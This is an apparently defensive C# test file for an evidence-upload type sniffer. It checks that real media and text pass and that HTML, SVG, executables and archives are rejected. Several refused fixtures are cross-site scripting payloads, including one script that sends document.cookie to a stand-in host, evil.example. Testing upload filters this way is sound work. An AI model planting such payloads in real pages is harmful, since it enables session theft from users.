using System.Text;
using CocReports.Procedure.Intake;

namespace CocReports.Procedure.Tests.Intake;

public class EvidenceTypeTests
{
    static byte[] Bytes(params object[] parts) =>
        [.. parts.SelectMany(p => p switch
        {
            string s => Encoding.ASCII.GetBytes(s),
            byte[] b => b,
            int i => [(byte)i],
            _ => throw new ArgumentException("unexpected part", nameof(parts)),
        })];

    static byte[] Padded(byte[] head) => [.. head, .. new byte[EvidenceType.HeadLength - head.Length].Select((_, i) => (byte)(i * 7 + 1))];

    public static TheoryData<string, byte[]> Media => new()
    {
        { "image/png", Padded(Bytes(0x89, "PNG", 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, "IHDR")) },
        { "image/jpeg", Padded(Bytes(0xFF, 0xD8, 0xFF, 0xE0, 0, 16, "JFIF", 0)) },
        { "image/gif", Padded(Bytes("GIF89a", 1, 0, 1, 0)) },
        { "image/gif", Padded(Bytes("GIF87a", 1, 0, 1, 0)) },
        { "image/webp", Padded(Bytes("RIFF", 0x24, 0, 0, 0, "WEBPVP8 ")) },
        { "application/pdf", Padded(Bytes("%PDF-1.7\n%", 0xE2, 0xE3, 0xCF, 0xD3, "\n")) },
        { "video/mp4", Padded(Bytes(0, 0, 0, 0x20, "ftypisom", 0, 0, 2, 0, "isomiso2avc1mp41")) },
        { "video/quicktime", Padded(Bytes(0, 0, 0, 0x14, "ftypqt  ", 0, 0, 2, 0, "qt  ")) },
        { "video/webm", Padded(Bytes(0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, "webm")) },
    };

    [Theory]
    [MemberData(nameof(Media))]
    public void Media_and_documents_are_recognised_by_their_signature(string expected, byte[] head)
    {
        Assert.Equal(expected, EvidenceType.Sniff(head));
        Assert.Contains(expected, EvidenceType.Allowed);
    }

    [Theory]
    [InlineData("Hello, I want to report something that happened at the meetup.\n")]
    [InlineData("2025-03-14T09:00:00Z INFO user=42 joined #general\r\n2025-03-14T09:01:00Z WARN \u001b[31mkicked\u001b[0m\tuser=43\f")]
    [InlineData("\uFEFFZürich, 東京, emoji 🙂 — all UTF-8")]
    [InlineData("<3 thanks for listening")]
    [InlineData("a < b and c > d in the chat log")]
    [InlineData("<alice> hi there\n<bob> hello, see the log below\n")]
    public void Utf8_text_and_logs_are_plain_text(string content)
    {
        Assert.Equal("text/plain", EvidenceType.Sniff(Encoding.UTF8.GetBytes(content)));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    public void Text_whose_head_is_cut_inside_a_multibyte_character_is_still_plain_text(int bytesOfLastCharacter)
    {
        // The sniffer sees only the first bytes; a head cut through "🙂" (four bytes) is still text.
        var text = Encoding.UTF8.GetBytes(new string('a', 100) + "🙂");
        var head = text[..(100 + bytesOfLastCharacter)];

        Assert.Equal("text/plain", EvidenceType.Sniff(head));
    }

    [Fact]
    public void Invalid_utf8_in_the_middle_is_not_text()
    {
        var head = Bytes("Hello ", 0xC3, 0x28, " world, this is not UTF-8");

        Assert.Null(EvidenceType.Sniff(head));
    }

    public static TheoryData<string, byte[]> Refused => new()
    {
        { "HTML document", Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>") },
        { "HTML after blank lines and a BOM", Encoding.UTF8.GetBytes("\uFEFF\n\n  <HTML><head><title>x</title></head></HTML>") },
        { "bare script", Encoding.UTF8.GetBytes("<script>fetch('https://evil.example/'+document.cookie)</script>") },
        { "SVG", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><circle r=\"5\"/></svg>") },
        { "XML", Encoding.UTF8.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<report><who>someone</who></report>") },
        { "Windows executable", Padded(Bytes("MZ", 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0)) },
        { "ELF executable", Padded(Bytes(0x7F, "ELF", 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0)) },
        { "ZIP archive", Padded(Bytes("PK", 3, 4, 20, 0, 0, 0, 8, 0)) },
        { "binary with NULs", Bytes("abc", 0, 0, 0, "def") },
        { "empty head", [] },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Content_a_browser_could_run_or_that_is_not_evidence_is_refused(string what, byte[] head)
    {
        Assert.True(EvidenceType.Sniff(head) is null, what);
    }

    [Fact]
    public void Html_sent_as_a_png_is_refused_because_only_the_bytes_count()
    {
        // Sniff takes no name or declared type at all: "evidence.png" holding this is judged as HTML.
        var pretendingToBePng = Encoding.UTF8.GetBytes("<html><body><img src=x onerror=alert(1)></body></html>");

        Assert.Null(EvidenceType.Sniff(pretendingToBePng));
    }

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("<body onload=alert(1)>")]
    public void Html_fragments_without_an_html_tag_are_refused(string markup)
    {
        // "not markup a browser would run": a fragment runs just as well as a whole document.
        Assert.Null(EvidenceType.Sniff(Encoding.UTF8.GetBytes(markup)));
    }
}
